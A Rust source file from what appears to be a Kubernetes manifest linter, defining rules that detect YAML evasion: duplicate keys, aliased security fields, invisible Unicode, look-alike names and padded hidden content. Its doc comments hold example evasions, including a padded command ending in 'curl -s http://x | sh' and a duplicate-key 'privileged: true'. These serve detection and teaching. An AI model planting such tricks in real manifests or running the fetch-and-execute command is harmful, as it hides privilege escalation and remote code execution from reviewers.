//! evasion: YAML that reads differently from how it applies.

use super::{Check, Ctx, Rule};
use crate::declare_rule;
use crate::finding::Finding;
use crate::yaml::{Kind, NodeId, Origin, Span};

pub static RULES: &[&Rule] = &[
    &YAML_DUPLICATE_KEY,
    &YAML_ALIAS_SECURITY_FIELD,
    &HIDDEN_UNICODE,
    &CONFUSABLE_IDENTIFIER,
    &HIDDEN_CONTENT_PADDING,
];

fn within(ctx: &Ctx, s: Span) -> bool {
    let o = ctx.doc.span(ctx.obj.node);
    s.start >= o.start && s.end <= o.end
}

declare_rule! {
    /// ## What it does
    /// Flags a mapping that repeats a key. Both places are labelled: the one a reviewer reads
    /// first, and the one that applies.
    ///
    /// ## Why is this bad?
    /// A reviewer reads `privileged: false` at the top of a securityContext; twenty lines
    /// later `privileged: true` is what `kubectl apply` keeps (the last one wins when YAML is
    /// converted to JSON; strict field validation rejects it, but not every pipeline is
    /// strict). It is a way to hide a change in plain sight (MITRE ATT&CK T1027).
    ///
    /// ## Example
    /// ```yaml
    /// securityContext:
    ///   privileged: false
    ///   runAsNonRoot: true
    ///   privileged: true
    /// ```
    ///
    /// ## Use instead
    /// Write each key once.
    ///
    /// ## References
    /// - Peers: kubeconform `-strict` errors on duplicate keys without saying which value
    ///   applies; cronguard labels both.
    pub static YAML_DUPLICATE_KEY = {
        id: "yaml-duplicate-key",
        category: Evasion,
        severity: High,
        enabled: true,
        attack: ["T1027"],
        summary: "a mapping repeats a key",
        check: Check::Object(check_duplicates),
    }
}

fn check_duplicates(ctx: &Ctx, out: &mut Vec<Finding>) {
    for d in &ctx.doc.duplicates {
        if !within(ctx, d.last) {
            continue;
        }
        let map_loc = ctx.doc.locator(d.map);
        let mut f = ctx.finding_at(
            &YAML_DUPLICATE_KEY,
            d.last,
            if map_loc.is_empty() {
                d.key.clone()
            } else {
                format!("{map_loc}.{}", d.key)
            },
            String::new(),
            format!("key `{}` is written twice; the second one applies", d.key),
        );
        f.label = "this one applies".into();
        let f = f.with_label(d.first, "a reviewer reads this one first");
        out.push(f.with_help(format!("keep a single `{}` key", d.key)));
    }
}

/// Keys whose value decides what a pod runs or may do.
const SECURITY_KEYS: &[&str] = &[
    "securityContext",
    "privileged",
    "allowPrivilegeEscalation",
    "capabilities",
    "hostPath",
    "hostPID",
    "hostIPC",
    "hostNetwork",
    "volumes",
    "volumeMounts",
    "command",
    "args",
    "image",
    "env",
    "envFrom",
    "containers",
    "initContainers",
    "serviceAccountName",
    "runAsUser",
    "runAsNonRoot",
];

/// Does the subtree at `id` (or the key it sits under) touch a security-relevant key?
fn security_relevant(ctx: &Ctx, id: NodeId) -> Option<String> {
    if let Some(k) = ctx.doc.key_of(id).and_then(|k| ctx.doc.str(k))
        && SECURITY_KEYS.contains(&k)
    {
        return Some(k.to_string());
    }
    let mut stack = vec![id];
    let mut seen = 0usize;
    while let Some(n) = stack.pop() {
        seen += 1;
        if seen > 10_000 {
            break;
        }
        match &ctx.doc.node(n).kind {
            Kind::Map(entries) => {
                for (k, v) in entries {
                    if let Some(key) = ctx.doc.str(*k)
                        && SECURITY_KEYS.contains(&key)
                    {
                        return Some(key.to_string());
                    }
                    stack.push(*v);
                }
            }
            Kind::Seq(items) => stack.extend(items.iter().copied()),
            Kind::Scalar { .. } => {}
        }
    }
    None
}

declare_rule! {
    /// ## What it does
    /// Flags security-relevant fields (securityContext, hostPath, volumes, command, args,
    /// image, env, ...) whose value arrives through a YAML alias (`*name`) or a `<<` merge key
    /// instead of being written where it applies. The label shows the alias or merge key and
    /// the anchored original.
    ///
    /// ## Why is this bad?
    /// The value a container gets is written somewhere else in the file, often far above,
    /// under an innocent-looking anchor; a diff that changes only the anchor changes every
    /// workload that uses it (MITRE ATT&CK T1027).
    ///
    /// ## Example
    /// ```yaml
    /// x-defaults: &sc {privileged: true}
    /// ...
    ///     securityContext: *sc
    /// ```
    ///
    /// ## Use instead
    /// Write security settings inline; use Kustomize or Helm for shared values, so that the
    /// rendered manifest that is reviewed is the one applied.
    ///
    /// ## References
    /// - Peers: none. Aliases used for labels or other metadata are not reported.
    pub static YAML_ALIAS_SECURITY_FIELD = {
        id: "yaml-alias-security-field",
        category: Evasion,
        severity: Medium,
        enabled: true,
        attack: ["T1027"],
        summary: "a security-relevant field comes from a YAML alias or merge key",
        check: Check::Object(check_alias),
    }
}

fn check_alias(ctx: &Ctx, out: &mut Vec<Finding>) {
    let o = ctx.doc.span(ctx.obj.node);
    let mut reported_merges: Vec<Span> = Vec::new();
    for (i, node) in ctx.doc.nodes.iter().enumerate() {
        let id = i as NodeId;
        let (use_span, how) = match node.origin {
            Origin::Inline => continue,
            Origin::Alias { alias } => (alias, "alias"),
            Origin::Merge { merge_key } => (merge_key, "merge key"),
        };
        if use_span.start < o.start || use_span.end > o.end {
            continue;
        }
        // Merged entries: report each `<<` once, for its first security-relevant value.
        if how == "merge key"
            && (reported_merges.contains(&use_span) || ctx.doc.key_of(id).is_none())
        {
            continue;
        }
        // A copy that only served as a `<<` source is not in the tree itself.
        if let Some(p) = node.parent {
            let attached = match &ctx.doc.node(p).kind {
                Kind::Map(entries) => entries.iter().any(|(k, v)| *k == id || *v == id),
                Kind::Seq(items) => items.contains(&id),
                Kind::Scalar { .. } => false,
            };
            if !attached {
                continue;
            }
        }
        // Only the root of a copied subtree carries the alias origin for its children too;
        // skip descendants whose parent came from the same alias.
        if let Some(p) = node.parent
            && ctx.doc.node(p).origin == node.origin
        {
            continue;
        }
        let Some(field) = security_relevant(ctx, id) else {
            continue;
        };
        if how == "merge key" {
            reported_merges.push(use_span);
        }
        let mut f = ctx.finding_at(
            &YAML_ALIAS_SECURITY_FIELD,
            use_span,
            ctx.doc.locator(id),
            field.clone(),
            format!("field `{field}` is set through a YAML {how}, not where it applies"),
        );
        f.label = format!("`{field}` comes from here");
        let f = f.with_label(node.span, "the anchored value that applies");
        out.push(f.with_help(
            "write security-relevant fields inline so the reviewed text is what applies",
        ));
    }
}

declare_rule! {
    /// ## What it does
    /// Flags bidirectional controls, zero-width and other invisible characters anywhere in an
    /// object (keys, values, comments). The diagnostic shows them escaped, e.g. `\u{202E}`.
    ///
    /// ## Why is this bad?
    /// A right-to-left override makes `args: ["--safe", "\u{202E}--unsafe"]` display reversed; a
    /// zero-width space makes `privileged` a different key than the one a reviewer sees
    /// ("Trojan Source", CVE-2021-42574) (MITRE ATT&CK T1027).
    ///
    /// ## Example
    /// ```yaml
    /// name: "backup\u200b"
    /// ```
    ///
    /// ## Use instead
    /// Plain text; if a non-ASCII character is needed, write it visibly.
    ///
    /// ## References
    /// - Unicode TR36/TR39; Trojan Source (Boucher & Anderson, 2021). Peers: none.
    pub static HIDDEN_UNICODE = {
        id: "hidden-unicode",
        category: Evasion,
        severity: High,
        enabled: true,
        attack: ["T1027"],
        summary: "invisible or bidirectional control characters in the manifest",
        check: Check::Object(check_hidden),
    }
}

fn check_hidden(ctx: &Ctx, out: &mut Vec<Finding>) {
    let o = ctx.doc.span(ctx.obj.node);
    let Some(text) = ctx.src.get(o.range()) else {
        return;
    };
    for h in crate::unicode::find_hidden(text) {
        if matches!(h.ch, '\t' | '\n' | '\r') {
            continue;
        }
        let span = o.slice(h.range.clone());
        let mut f = ctx.finding_at(
            &HIDDEN_UNICODE,
            span,
            format!("offset-in-object:{}", h.range.start),
            format!("{:04X}", h.ch as u32),
            format!(
                "invisible character U+{:04X} {} in the manifest",
                h.ch as u32, h.name
            ),
        );
        // Make the locator line-independent: the node that contains it.
        f.locator = format!("U+{:04X}", h.ch as u32);
        f.label = format!("\\u{{{:04X}}} here", h.ch as u32);
        out.push(f.with_help("remove the character; reviewers cannot see it"));
    }
}

declare_rule! {
    /// ## What it does
    /// Flags non-ASCII look-alike characters (Unicode TR39 confusables: Cyrillic `а`, Greek
    /// `ο`, fullwidth forms, ...) in object names, namespaces, container names, images and
    /// service account names, and shows the ASCII text they imitate.
    ///
    /// ## Why is this bad?
    /// `kube-proхy` with a Cyrillic `х` reads as `kube-proxy` in a review and in `kubectl get`,
    /// but is a different object that policies keyed on the real name do not cover (MITRE
    /// ATT&CK T1036, Masquerading).
    ///
    /// ## Example
    /// ```yaml
    /// metadata:
    ///   name: kube-proхy
    /// ```
    ///
    /// ## Use instead
    /// ASCII names (Kubernetes object names are DNS labels; images are lowercase ASCII).
    ///
    /// ## References
    /// - Unicode TR39 (confusable detection). Peers: none.
    pub static CONFUSABLE_IDENTIFIER = {
        id: "confusable-identifier",
        category: Evasion,
        severity: High,
        enabled: true,
        attack: ["T1036"],
        summary: "an identifier uses look-alike non-ASCII characters",
        check: Check::Object(check_confusable),
    }
}

fn identifier_nodes(ctx: &Ctx) -> Vec<(NodeId, &'static str)> {
    let d = ctx.doc;
    let mut v = Vec::new();
    if let Some(m) = d.get(ctx.obj.node, "metadata") {
        for (k, what) in [
            ("name", "name"),
            ("namespace", "namespace"),
            ("generateName", "name"),
        ] {
            if let Some(n) = d.get(m, k) {
                v.push((n, what));
            }
        }
    }
    for pod in ctx.pods() {
        for k in ["serviceAccountName", "serviceAccount"] {
            if let Some(n) = pod.field(d, k) {
                v.push((n, "service account"));
            }
        }
        for c in &pod.containers {
            for (k, what) in [("name", "container name"), ("image", "image")] {
                if let Some(n) = d.get(c.node, k) {
                    v.push((n, what));
                }
            }
        }
    }
    v.sort_unstable();
    v.dedup();
    v
}

fn check_confusable(ctx: &Ctx, out: &mut Vec<Finding>) {
    for (node, what) in identifier_nodes(ctx) {
        let Some(text) = ctx.doc.str(node) else {
            continue;
        };
        if text.is_ascii() {
            continue;
        }
        let found = crate::unicode::confusables(text);
        let Some(first) = found.first() else { continue };
        let looks =
            crate::unicode::skeleton_ascii(text).unwrap_or_else(|| first.looks_like.clone());
        let mut f = ctx.finding(
            &CONFUSABLE_IDENTIFIER,
            node,
            format!(
                "{what} {} imitates `{looks}` with look-alike characters",
                crate::unicode::escape_for_display(text, 80)
            ),
        );
        let chars: Vec<String> = found
            .iter()
            .map(|c| format!("U+{:04X} looks like `{}`", c.ch as u32, c.looks_like))
            .collect();
        f.label = chars.join(", ");
        if let Some(s) = ctx.inner_span(node, first.range.clone()) {
            f = f.with_label(s, "first look-alike character");
        }
        out.push(f.with_help(format!("use the ASCII spelling `{looks}`")));
    }
}

/// Whitespace run inside a value that hides what follows it.
pub const MAX_WHITESPACE_RUN: usize = 40;
/// A line longer than this cannot be reviewed in a diff.
pub const MAX_LINE_LEN: usize = 1000;

declare_rule! {
    /// ## What it does
    /// Flags a value with a run of 40 or more spaces or tabs before more content, and any line
    /// of a workload longer than 1,000 characters.
    ///
    /// ## Why is this bad?
    /// Diff viewers and terminals cut or wrap long lines: `args: ["echo ok", "...200 spaces...;
    /// curl evil | sh"]` looks like a harmless echo in a pull request (MITRE ATT&CK T1027).
    ///
    /// ## Example
    /// ```yaml
    /// command: ["sh", "-c", "echo ok                                                   ; curl -s http://x | sh"]
    /// ```
    ///
    /// ## Use instead
    /// Short lines; long scripts in a ConfigMap with a block scalar (`|`).
    ///
    /// ## References
    /// - Peers: none.
    pub static HIDDEN_CONTENT_PADDING = {
        id: "hidden-content-padding",
        category: Evasion,
        severity: Medium,
        enabled: true,
        attack: ["T1027"],
        summary: "content hidden behind long padding or an overlong line",
        check: Check::Object(check_padding),
    }
}

fn padding_run(s: &str) -> Option<std::ops::Range<usize>> {
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b' ' || b[i] == b'\t' {
            let start = i;
            while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
                i += 1;
            }
            if i - start >= MAX_WHITESPACE_RUN && i < b.len() && b[i] != b'\n' && b[i] != b'\r' {
                return Some(start..i);
            }
        } else {
            i += 1;
        }
    }
    None
}

fn check_padding(ctx: &Ctx, out: &mut Vec<Finding>) {
    if ctx.workload.is_none() {
        return;
    }
    let o = ctx.doc.span(ctx.obj.node);
    let mut flagged_lines: Vec<u32> = Vec::new();
    // Values with padding.
    for (i, node) in ctx.doc.nodes.iter().enumerate() {
        if node.span.start < o.start || node.span.end > o.end || node.origin != Origin::Inline {
            continue;
        }
        let Kind::Scalar { text, .. } = &node.kind else {
            continue;
        };
        let Some(run) = padding_run(text) else {
            continue;
        };
        let id = i as NodeId;
        let mut f = ctx.finding(
            &HIDDEN_CONTENT_PADDING,
            id,
            format!("a value hides content after {} blank characters", run.len()),
        );
        f.value = format!("pad:{}", run.len());
        f.label = "more content after long padding".into();
        if let Some(s) = ctx.inner_span(id, run.end..text.len().min(run.end + 40)) {
            f = f.with_label(s, "hidden part starts here");
        }
        flagged_lines.push(node.span.start);
        out.push(f.with_help("remove the padding so the whole value is visible in review"));
    }
    // Overlong lines.
    let text = &ctx.src[o.range()];
    // Line ends found with memchr: only the few long lines are looked at (this loop saw
    // every line of every workload).
    let mut off = 0usize;
    let ends = memchr::memchr_iter(b'\n', text.as_bytes()).chain(std::iter::once(text.len()));
    for end in ends {
        if end - off <= MAX_LINE_LEN {
            off = end + 1;
            continue;
        }
        let content = text[off..end].trim_end_matches(['\n', '\r']);
        // A line has at most as many characters as bytes.
        if content.len() > MAX_LINE_LEN && content.chars().count() > MAX_LINE_LEN {
            let start = o.start as usize + off;
            let span = Span::new(start, start + content.len());
            if !flagged_lines
                .iter()
                .any(|s| (*s as usize) >= start && (*s as usize) < start + content.len())
            {
                let mut f = ctx.finding_at(
                    &HIDDEN_CONTENT_PADDING,
                    span,
                    "overlong-line".into(),
                    content.chars().count().to_string(),
                    format!(
                        "a line of {} characters is too long to review",
                        content.chars().count()
                    ),
                );
                f.label = "overlong line".into();
                out.push(f.with_help(
                    "split the value, or move long scripts into a ConfigMap block scalar",
                ));
            }
        }
        off = end + 1;
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::testing::run;

    #[test]
    fn duplicate_key_labels_both() {
        let src = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n  - name: a\n    image: x\n    securityContext:\n      privileged: false\n      privileged: true\n";
        let f = run("yaml-duplicate-key", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, 10);
        assert_eq!(
            f[0].labels[0].span.start as usize,
            src.find("privileged: false").unwrap()
        );
    }

    #[test]
    fn alias_for_labels_only_is_fine() {
        let src = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: d\n  labels: &l {app: x}\nspec:\n  selector: {matchLabels: *l}\n  template:\n    metadata: {labels: *l}\n    spec:\n      containers: [{name: a, image: x}]\n";
        assert!(run("yaml-alias-security-field", src).is_empty());
    }

    #[test]
    fn padding_run_needs_content_after() {
        assert!(super::padding_run(&format!("a{}b", " ".repeat(40))).is_some());
        assert!(super::padding_run(&format!("a{}", " ".repeat(60))).is_none());
        assert!(super::padding_run(&format!("a{}b", " ".repeat(39))).is_none());
    }
}
